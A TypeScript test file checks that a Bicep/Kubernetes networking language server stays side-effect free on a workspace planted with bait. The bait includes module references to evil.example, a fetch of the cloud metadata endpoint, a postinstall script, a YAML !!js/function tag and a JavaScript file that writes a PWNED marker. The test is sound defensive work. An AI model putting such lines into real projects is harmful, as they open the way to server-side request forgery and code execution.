// The language server only reads: over real JSON-RPC, on a workspace full of bait (Bicep modules and
// load*Content() calls that point at URLs, a registry and a JavaScript file; a JavaScript file and a
// package.json with scripts; YAML with JavaScript tags), every request the client can make leaves no trace.
// test/helpers/sentinel.cjs, preloaded into the server (and its threads), records any network access,
// process start, worker start other than the server's own reader and layout threads,
// run-time compilation (vm), module load from outside the server's bundle, or file write; none may happen,
// and every workspace file keeps its bytes.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import { READ_APART_FROM } from '../../server/src/service/workspaceScan.ts';
import { LspClient, SERVER } from '../helpers/lspClient.ts';

const SENTINEL = path.join(import.meta.dirname, '..', 'helpers', 'sentinel.cjs');

const BAIT: Record<string, string> = {
  'main.bicep': `module remote 'https://evil.example/modules/vnet.bicep' = { name: 'remote' }
module registry 'br:evil.azurecr.io/bicep/modules/vnet:1.0' = { name: 'registry' }
module spec 'ts:00000000-0000-0000-0000-000000000000/rg/spec:1.0' = { name: 'spec' }
module local './net.bicep' = { name: 'local', params: { text: loadTextContent('https://evil.example/payload.txt') } }
var code = loadTextContent('evil.js')
var json = loadJsonContent('package.json')
var remoteJson = loadJsonContent('http://169.254.169.254/metadata/instance')
resource vnet 'Microsoft.Network/virtualNetworks@2023-11-01' = {
  name: 'bait-vnet'
  properties: { addressSpace: { addressPrefixes: [ '10.70.0.7/16', json.scripts.postinstall, code ] } }
}
`,
  'net.bicep': `param text string
resource vnet2 'Microsoft.Network/virtualNetworks@2023-11-01' = {
  name: text
  properties: { addressSpace: { addressPrefixes: [ '10.71.0.0/16' ] } }
}
`,
  'evil.js': `require('node:fs').writeFileSync(require('node:path').join(__dirname, 'PWNED'), 'x'); module.exports = '10.0.0.0/8';\n`,
  'evil.mjs': `import { writeFileSync } from 'node:fs'; writeFileSync(new URL('./PWNED', import.meta.url), 'x');\n`,
  'package.json': JSON.stringify({ name: 'bait', scripts: { postinstall: 'touch PWNED', test: 'touch PWNED' }, main: 'evil.js' }),
  'cluster.yaml': `apiVersion: containerservice.azure.com/v20250801
kind: ManagedCluster
metadata:
  name: bait
  annotations:
    fn: !!js/function 'function () { require("fs").writeFileSync("PWNED", "x") }'
    re: !!js/regexp /x/
    schema: $ref https://evil.example/schema.json
spec:
  networkProfile:
    podCidr: !!js/undefined 10.244.0.0/16
    serviceCidr: 10.0.0.0/16
    dnsServiceIP: 10.0.0.1
`,
  'pods.json': JSON.stringify({ apiVersion: 'v1', kind: 'PodList', items: [{ metadata: { name: 'p', namespace: 'default', labels: { app: 'web' } }, status: { podIP: '10.244.0.5' } }] }),
  'policy.yaml': `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: allow-web
  namespace: default
spec:
  podSelector: { matchLabels: { app: web } }
  ingress: [ { from: [ { ipBlock: { cidr: 10.0.0.0/8, except: [ 11.0.0.0/8 ] } } ] } ]
`,
  '.aksnetlens.yaml': 'externalRanges:\n  - name: on-premises\n    cidr: 192.168.0.0/16\nrules:\n  reserved-range: warning\n',
  '.vscode/settings.json': JSON.stringify({ 'aksNetworkLens.trace.server': 'verbose', 'http.proxy': 'http://evil.example:8080' }),
};

function snapshot(root: string): Map<string, string> {
  const hashes = new Map<string, string>();
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else hashes.set(path.relative(root, full), createHash('sha256').update(readFileSync(full)).digest('hex'));
    }
  };
  walk(root);
  return hashes;
}

describe('the language server has no side effects', () => {
  it('reaches no network, starts no process, compiles and loads nothing, writes nothing, whatever the workspace says', async () => {
    const root = mkdtempSync(path.join(tmpdir(), 'netlens-bait-'));
    const log = path.join(mkdtempSync(path.join(tmpdir(), 'netlens-sentinel-')), 'sentinel.log');
    writeFileSync(log, '');
    mkdirSync(path.join(root, '.vscode'));
    for (const [name, text] of Object.entries(BAIT)) writeFileSync(path.join(root, name), text);
    // Enough files for the scan to read YAML on the server's reader threads (service/workspaceScan.ts).
    mkdirSync(path.join(root, 'services'));
    for (let i = 0; i < READ_APART_FROM; i++) writeFileSync(path.join(root, 'services', `svc${i}.yaml`), `apiVersion: v1\nkind: Service\nmetadata:\n  name: svc${i}\nspec:\n  type: LoadBalancer\n  loadBalancerIP: 10.70.1.${i}\n`);
    const before = snapshot(root);
    const previous = { log: process.env.SENTINEL_LOG, dir: process.env.SENTINEL_ALLOWED_DIR };
    process.env.SENTINEL_LOG = log;
    process.env.SENTINEL_ALLOWED_DIR = path.dirname(SERVER);
    const client = new LspClient([process.execPath, '--require', SENTINEL, SERVER, '--stdio']);
    process.env.SENTINEL_LOG = previous.log;
    process.env.SENTINEL_ALLOWED_DIR = previous.dir;
    try {
      client.settings = { aksNetworkLens: { rules: {}, hints: { enabled: true } } };
      await client.initialize(pathToFileURL(root).href);
      const uris = Object.keys(BAIT).filter((name) => /\.(ya?ml|bicep|json)$/.test(name) && !name.startsWith('.vscode')).map((name) => pathToFileURL(path.join(root, name)).href);
      const main = pathToFileURL(path.join(root, 'main.bicep')).href;
      // The server read the workspace and judged it: the findings are the proof it looked at the bait.
      const diagnostics = await client.waitForDiagnostics(main, (d) => d.some((x) => x.code === 'cidr-host-bits'));
      assert.ok(diagnostics.length > 0);
      await client.waitForDiagnostics(pathToFileURL(path.join(root, 'cluster.yaml')).href, (d) => d.some((x) => x.code === 'dns-service-ip-first-address'));
      // Every request, on every file, at every line.
      for (const uri of uris) {
        const text = readFileSync(new URL(uri), 'utf8');
        await client.open(uri, text, 1, uri.endsWith('.bicep') ? 'bicep' : uri.endsWith('.json') ? 'json' : 'yaml');
        const lines = text.split('\n');
        const range = { start: { line: 0, character: 0 }, end: { line: lines.length, character: 0 } };
        for (let line = 0; line < lines.length; line++) {
          for (const character of [0, Math.floor(lines[line]!.length / 2), Math.max(0, lines[line]!.length - 3)]) await client.hover(uri, line, character);
        }
        await client.connection.sendRequest('textDocument/codeAction', { textDocument: { uri }, range, context: { diagnostics: [] } });
        await client.connection.sendRequest('textDocument/inlayHint', { textDocument: { uri }, range });
        await client.connection.sendRequest('textDocument/codeLens', { textDocument: { uri } });
        await client.connection.sendRequest('aksNetworkLens/planPrefill', { uri });
        // A plan answers with edits and a settings-file text for the client to apply; the server writes nothing.
        await client.connection.sendRequest('aksNetworkLens/plan', { uri, mode: 'overlay', nodes: 10, maxPods: 110, settingsUri: pathToFileURL(path.join(root, '.aksnetlens.yaml')).href });
        await client.connection.sendRequest('aksNetworkLens/networkMap', { uri });
        await client.change(uri, `${text}\n# edited\n`, 2);
      }
      await client.connection.sendNotification('workspace/didChangeWatchedFiles', { changes: uris.map((uri) => ({ uri, type: 2 })) });
      await client.connection.sendNotification('workspace/didChangeConfiguration', { settings: null });
      for (const uri of uris) await client.connection.sendNotification('textDocument/didClose', { textDocument: { uri } });
      await new Promise((resolve) => setTimeout(resolve, 500));
    } finally {
      await client.shutdown();
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    assert.equal(readFileSync(`${log}.pid`, 'utf8'), String(client.process.pid), 'the server ran under the sentinel');
    assert.equal(readFileSync(log, 'utf8'), '', 'the sentinel recorded side effects');
    // Reader threads and the layout thread ran (so their side effects were watched too), from the server's own bundle.
    const threads = readFileSync(`${log}.workers`, 'utf8').trim().split('\n');
    const own = (name: string) => path.join(path.dirname(SERVER), name);
    assert.ok(threads.filter((thread) => thread === own('readerWorker.js')).length >= 2, threads.join(', '));
    assert.ok(threads.includes(own('layoutWorker.js')), threads.join(', '));
    assert.deepEqual(threads.filter((thread) => thread !== own('readerWorker.js') && thread !== own('layoutWorker.js')), []);
    assert.ok(!existsSync(path.join(root, 'PWNED')), 'a workspace file was executed');
    assert.deepEqual(snapshot(root), before, 'a workspace file changed');
    rmSync(root, { recursive: true, force: true });
    rmSync(path.dirname(log), { recursive: true, force: true });
  });

  it('the sentinel sees what it is meant to see (so a silent log means something)', async () => {
    const log = path.join(mkdtempSync(path.join(tmpdir(), 'netlens-sentinel-')), 'sentinel.log');
    writeFileSync(log, '');
    const script = `require('node:fs').writeFileSync(${JSON.stringify(`${log}.out`)}, 'x');
require('node:child_process').spawnSync(process.execPath, ['-e', '0']);
require('node:dns').lookup('localhost', () => {});
require('node:http').get('http://127.0.0.1:9/', () => {}).on('error', () => {});
require(${JSON.stringify(path.join(path.dirname(log), 'mod.js'))});`;
    writeFileSync(path.join(path.dirname(log), 'mod.js'), 'module.exports = 1;\n');
    const { spawnSync } = await import('node:child_process');
    const result = spawnSync(process.execPath, ['--require', SENTINEL, '-e', script], { env: { ...process.env, SENTINEL_LOG: log, SENTINEL_ALLOWED_DIR: path.dirname(SERVER) } });
    assert.equal(result.status, 0, String(result.stderr));
    const seen = readFileSync(log, 'utf8');
    for (const expected of [/fs\.writeFileSync\(/, /node:child_process\.spawnSync\(/, /node:dns\.lookup\(localhost/, /node:http\.get\(http:\/\/127\.0\.0\.1:9\//, /require\(.*mod\.js\)/]) {
      assert.match(seen, expected);
    }
    rmSync(path.dirname(log), { recursive: true, force: true });
  });
});
